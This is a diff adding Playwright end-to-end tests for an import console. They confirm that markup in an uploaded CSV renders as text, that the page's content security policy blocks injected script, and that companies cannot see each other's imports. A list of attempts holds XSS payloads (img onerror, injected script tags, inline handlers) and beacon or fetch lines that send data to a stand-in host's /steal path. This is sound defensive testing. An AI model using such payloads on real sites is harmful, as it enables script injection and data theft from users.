@@ -1,0 +1,71 @@
+"""What a page of the console can't be brought to do, whatever is in a file or a record."""
+
+from playwright.sync_api import expect
+
+from tests.e2e.console.pages import Console
+from tests.e2e.importing import ended, post
+from tests.e2e.remote import RemoteShop
+
+EVIL = "<img src=x onerror=\"document.title='taken'\">"
+
+ELSE = "https://else.test"
+ADDED = "document.body.append(Object.assign(document.createElement"
+ATTEMPTS = (
+    f"{ADDED}('script'), {{text: 'window.ran = 1'}}))",
+    f"{ADDED}('script'), {{src: '{ELSE}/x.js'}}))",
+    "document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'",
+    "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
+    "setTimeout('window.ran = 1')",
+    f"fetch('{ELSE}/steal')",
+    f"new Image().src = '{ELSE}/steal'",
+    f"{ADDED}('form'), {{action: '{ELSE}', id: 'f'}})); document.getElementById('f').submit()",
+)
+
+
+def test_markup_in_a_file_is_text_in_its_preview_and_among_its_faults(
+    console: Console, vendor: RemoteShop
+) -> None:
+    page = console.page
+    data = f'email,first_name\n"{EVIL.replace(chr(34), chr(34) * 2)}",{EVIL[:4]}\n'.encode()
+    console.open("imports/customers/new", key=vendor.key)
+
+    console.choose(f"{EVIL[:4]}.csv", data)
+    console.see("1 row of 1 is faulty")
+    console.button("Import 1 row").click()
+    console.see("must be an e-mail address")
+
+    expect(page.get_by_label("Row 1, email")).to_have_value(EVIL)
+    assert page.locator("main img").count() == 0
+    assert "taken" not in page.title()
+
+
+def test_the_page_runs_no_script_but_its_own(console: Console, vendor: RemoteShop) -> None:
+    page = console.page
+    console.open("imports/customers", key=vendor.key)
+    page.evaluate(
+        "addEventListener('securitypolicyviolation', (event) =>"
+        " (window.refused = [...(window.refused ?? []), event.effectiveDirective]))"
+    )
+
+    for attempt in ATTEMPTS:
+        page.evaluate(f"async () => {{ try {{ {attempt} }} catch {{}} }}")
+    page.wait_for_function("window.refused?.includes('form-action')")
+
+    assert page.evaluate("window.ran") is None
+    assert {"connect-src", "img-src", "form-action", "require-trusted-types-for"} <= set(
+        page.evaluate("window.refused")
+    )
+    console.wrong.clear()
+
+
+def test_two_companies_see_only_their_own_imports(
+    console: Console, vendor: RemoteShop, other_shop: RemoteShop
+) -> None:
+    number = post(vendor, "customers", b"email\nmine@m.test\n", name="mine.csv")
+    ended(vendor, number)
+    console.open("imports/customers", key=other_shop.key)
+
+    console.see("Nothing has been imported yet")
+    console.open(f"imports/customers/{number}")
+
+    console.see(f"There is no import {number}")
